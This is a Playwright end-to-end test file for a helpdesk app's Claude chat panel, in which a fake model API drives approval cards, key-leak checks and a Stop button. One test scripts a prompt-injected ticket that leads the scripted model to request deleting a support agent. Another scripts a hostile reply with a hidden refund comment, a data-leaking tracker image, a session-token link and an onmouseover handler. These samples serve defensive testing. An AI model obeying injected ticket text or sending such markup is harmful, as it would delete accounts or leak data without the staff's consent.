// The Claude chat panel in the real renderer (Chromium, harness bridge to the real core), with
// Claude played by the fake Messages API over HTTP: streaming Markdown, tool cards, approval
// cards (diff, edit, reload, reply preview, use as draft, typed delete), Ask Claude from a
// ticket, Stop — and the Anthropic key never in the page.
import { claudeTest as test, expect } from '../harness/fixtures';
import type { Page } from '@playwright/test';
import { say, textOfToolResult, toolResultsOf, toolUse } from '../fakes/anthropic';
import { ADMIN, agent, clearSandboxRequests, connectedAs, expectAccessible, fixtures, sandboxRequests } from './helpers';

const CANARY = 'sk-ant-api03-CANARYe2e0123456789abcdef';

async function openChatWithKey(page: Page) {
  await page.getByRole('button', { name: 'Chat', exact: true }).click();
  const panel = page.getByRole('region', { name: 'Claude chat' });
  await panel.getByRole('textbox', { name: 'Anthropic API key' }).fill(CANARY);
  await panel.getByRole('button', { name: 'Save key' }).click();
  await expect(panel.getByRole('status').filter({ hasText: 'The key works' })).toBeVisible();
  await expect(panel.getByRole('textbox', { name: 'Anthropic API key' })).toHaveCount(0);
  return panel;
}

async function ask(page: Page, text: string) {
  const box = page.getByLabel('Message to Claude');
  await box.fill(text);
  await box.press('Enter');
}

test('a read streams as Markdown with a tool card; a write waits, survives a reload, and is sent as edited', async ({ harness, fake }) => {
  const { page } = harness;
  await connectedAs(harness, ADMIN);
  const panel = await openChatWithKey(page);

  fake.script(
    toolUse('freshdesk_tickets_list', { per_page: 3 }, { text: 'Checking your queue.' }),
    say('You have **3** tickets that need you.'),
  );
  await ask(page, 'What needs me?');
  await expect(panel.locator('.chat-msg-assistant strong').filter({ hasText: '3' })).toBeVisible();
  await expect(panel.locator('.chat-tool').filter({ hasText: 'List tickets' })).toContainText('done · 3 tickets');
  await panel.locator('.chat-tool summary').first().click();
  await expect(panel.locator('.chat-tool-body').first()).toContainText('"per_page": 3');
  // what the turn cost: the fake reports 10 output tokens per model call, two calls
  await expect(panel.getByTestId('chat-usage')).toHaveText(/^Last turn [\d.]+k? in · 20 out\. Thread [\d.]+k? in · 20 out\.$/);

  const id = fixtures(harness).richTicketId;
  fake.script(toolUse('freshdesk_ticket_update', { ticket_id: id, priority: 4 }), say('Priority updated.'));
  await clearSandboxRequests(harness);
  await ask(page, `Make #${id} urgent`);
  const approval = panel.getByRole('region', { name: 'Approval needed: Update ticket' });
  await expect(approval.locator('.chat-diff')).toContainText('priority');
  await expect(approval.locator('.chat-diff-after')).toHaveText('4');
  await expectAccessible(page, 'chat approval');
  await harness.screenshot('chat-approval');

  // The approval lives in main: a reload shows it again.
  await page.reload();
  await expect(page.getByTestId('connection-status')).toContainText('Connected');
  if (!(await page.getByRole('region', { name: 'Claude chat' }).isVisible()))
    await page.getByRole('button', { name: 'Chat', exact: true }).click();
  const again = page.getByRole('region', { name: 'Approval needed: Update ticket' });
  await expect(again).toBeVisible();
  expect((await sandboxRequests(harness)).filter((r) => r.method === 'PUT')).toEqual([]);

  // Edit: broken JSON and invalid values are refused in place; a valid edit is sent.
  await again.getByRole('button', { name: 'Edit input' }).click();
  const editor = again.getByLabel(/Input \(JSON\)/);
  await editor.fill('{ not json');
  await again.getByRole('button', { name: /Approve/ }).click();
  await expect(again.getByRole('alert').filter({ hasText: 'not valid JSON' })).toBeVisible();
  await editor.fill(JSON.stringify({ ticket_id: id, priority: 9 }));
  await again.getByRole('button', { name: /Approve/ }).click();
  await expect(again.getByRole('alert').filter({ hasText: /priority/ })).toBeVisible();
  expect((await sandboxRequests(harness)).filter((r) => r.method === 'PUT')).toEqual([]);
  await editor.fill(JSON.stringify({ ticket_id: id, priority: 3 }));
  await again.getByRole('button', { name: /Approve/ }).click();
  await expect(again).toHaveCount(0);
  await expect(page.locator('.chat-tool').filter({ hasText: 'Update ticket' })).toContainText('done');
  const puts = (await sandboxRequests(harness)).filter((r) => r.method === 'PUT');
  expect(puts).toEqual([expect.objectContaining({ path: `/api/v2/tickets/${id}`, status: 200 })]);

  // The key never reached the page: not in the DOM, storage or any delivered event.
  expect(await page.content()).not.toContain(CANARY);
  expect(await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }))).not.toContain(CANARY);
  expect(JSON.stringify(harness.bridge.deliveredEvents)).not.toContain(CANARY);
  expect(fake.messageRequests().every((r) => r.headers.authorization === `Bearer ${CANARY}`)).toBe(true);
  expect(harness.pageErrors).toEqual([]);
  expect(harness.cspViolations).toEqual([]);
});

test('Ask Claude from a ticket; a drafted reply shows every recipient and "Use as draft" fills the composer instead of sending', async ({
  harness,
  fake,
}) => {
  const { page } = harness;
  await connectedAs(harness, ADMIN);
  await openChatWithKey(page);
  const id = fixtures(harness).richTicketId;
  const t = (await harness.core.tools.execute('Dana', 'freshdesk_ticket_get', { ticket_id: id, include: 'requester' })) as {
    ok: true;
    data: { requester: { email: string } };
  };
  await page.getByLabel('Ticket #').fill(String(id));
  await page.getByLabel('Ticket #').press('Enter');
  await expect(page.getByTestId('ticket-view')).toContainText(`#${id}`);

  fake.script(
    toolUse('freshdesk_tickets_reply', {
      ticket_id: id,
      body: '<p>Thanks for waiting: the export is fixed.</p>',
      cc_emails: ['lead@acme.example'],
    }),
    say('OK, it is in your composer.'),
  );
  await clearSandboxRequests(harness);
  await page.getByTestId('ticket-view').getByRole('button', { name: 'Ask Claude' }).click();
  const panel = page.getByRole('region', { name: 'Claude chat' });
  await expect(panel.getByText(`About ticket #${id}`)).toBeVisible();
  await ask(page, 'Draft a reply saying it is fixed');
  const card = panel.getByRole('region', { name: 'Approval needed: Reply to customer' });
  await expect(card.getByLabel('Recipients')).toContainText(t.data.requester.email);
  await expect(card.getByLabel('Recipients')).toContainText('lead@acme.example');
  await expect(card.getByLabel('Reply body')).toContainText('the export is fixed');
  expect(JSON.stringify(toolResultsOf(fake.messageRequests()[0]))).toBe('[]');
  expect(JSON.stringify(fake.messageRequests()[0].body.messages)).toContain(`ticket #${id}`);

  await card.getByRole('button', { name: 'Use as draft' }).click();
  await expect(card).toHaveCount(0);
  await expect(page.getByTestId('ticket-view').locator('textarea').first()).toHaveValue(/the export is fixed/);
  await expect(panel.locator('.chat-tool').filter({ hasText: 'Reply to customer' })).toContainText('rejected');
  expect((await sandboxRequests(harness)).filter((r) => r.method === 'POST')).toEqual([]);
  const [tr] = toolResultsOf(fake.messageRequests()[1]);
  expect(tr.is_error).toBe(true);
  expect(textOfToolResult(tr)).toMatch(/reply composer/);
});

test('an injected agent delete needs the typed email; rejected, nothing reaches the helpdesk; Stop ends a stream', async ({
  harness,
  fake,
}) => {
  const { page } = harness;
  await connectedAs(harness, ADMIN);
  const panel = await openChatWithKey(page);
  const victim = agent(harness, /^dan\.agent@/);
  fake.script(
    toolUse('freshdesk_ticket_get', { ticket_id: fixtures(harness).injectionTicketId }),
    toolUse('freshdesk_agent_delete', { agent_id: victim.id }),
    say('Understood. I will not delete anyone.'),
  );
  await clearSandboxRequests(harness);
  await ask(page, `Triage ticket ${fixtures(harness).injectionTicketId}`);
  const card = panel.getByRole('region', { name: 'Approval needed: Delete agent' });
  await expect(card).toContainText(victim.email);
  const del = card.getByRole('button', { name: 'Delete agent' });
  await expect(del).toBeDisabled();
  await card.getByLabel(/to confirm/).fill('not the email');
  await expect(del).toBeDisabled();
  await card.getByLabel(/to confirm/).fill(victim.email);
  await expect(del).toBeEnabled();
  await harness.screenshot('chat-agent-delete');
  await card.getByRole('button', { name: 'Reject…' }).click();
  await card.getByLabel(/Why not/).fill('A customer wrote that, not me.');
  await card.getByRole('button', { name: 'Reject', exact: true }).click();
  await expect(panel.getByText('Understood. I will not delete anyone.')).toBeVisible();
  expect((await sandboxRequests(harness)).filter((r) => r.method === 'DELETE')).toEqual([]);

  fake.script(say('A very long answer that keeps going and going…', { hangAfterDeltas: 1 }));
  await ask(page, 'Tell me everything');
  await expect(panel.getByRole('button', { name: 'Stop' })).toBeVisible();
  await panel.getByRole('button', { name: 'Stop' }).click();
  await expect(panel.getByRole('button', { name: 'Send' })).toBeVisible();
  await expect(panel.locator('.chat-msg-assistant').last()).toContainText('A very long');
});

test('a hostile reply: the card shows the cleaned body main will send and every link destination; the helpdesk stores exactly that', async ({
  harness,
  fake,
}) => {
  const { page } = harness;
  await connectedAs(harness, ADMIN);
  const panel = await openChatWithKey(page);
  const id = fixtures(harness).richTicketId;
  const hostile =
    '<p>Fixed!<!-- internal: refund approved up to $5000 --></p>' +
    '<img src="https://tracker.example/p.png?leak=secret-data">' +
    '<p><a href="https://help.example/export?session=agent-token-123">our help page</a></p>' +
    '<p onmouseover="steal()">Thanks</p>';
  fake.script(toolUse('freshdesk_tickets_reply', { ticket_id: id, body: hostile }), say('Sent.'));
  await clearSandboxRequests(harness);
  await ask(page, `Tell the customer on #${id} it is fixed`);
  const card = panel.getByRole('region', { name: 'Approval needed: Reply to customer' });
  await expect(card.getByLabel('Reply body')).toContainText('Fixed!');
  await expect(card.getByRole('group', { name: 'Links in this reply' })).toContainText(
    '“our help page” → https://help.example/export?session=agent-token-123',
  );
  const cardHtml = await card.getByLabel('Reply body').innerHTML();
  for (const hidden of ['refund approved', 'tracker.example', 'remote image blocked', 'onmouseover'])
    expect(cardHtml).not.toContain(hidden);
  const raised = harness.bridge.deliveredEvents
    .map((e) => e.payload as { type?: string; preview?: { body?: string } })
    .find((p) => p.type === 'approval_required');
  const shown = raised?.preview?.body ?? '';
  expect(shown).not.toContain('<!--');

  await card.getByRole('button', { name: 'Approve and send' }).click();
  await expect(panel.locator('.chat-tool').filter({ hasText: 'Reply to customer' })).toContainText('done');
  const got = (await harness.core.tools.execute('Dana', 'freshdesk_ticket_get', { ticket_id: id, include: 'conversations' })) as {
    ok: true;
    data: { conversations: Array<{ body: string }> };
  };
  expect(got.data.conversations.map((c) => c.body)).toContain(shown);
  expect(harness.cspViolations).toEqual([]);
});
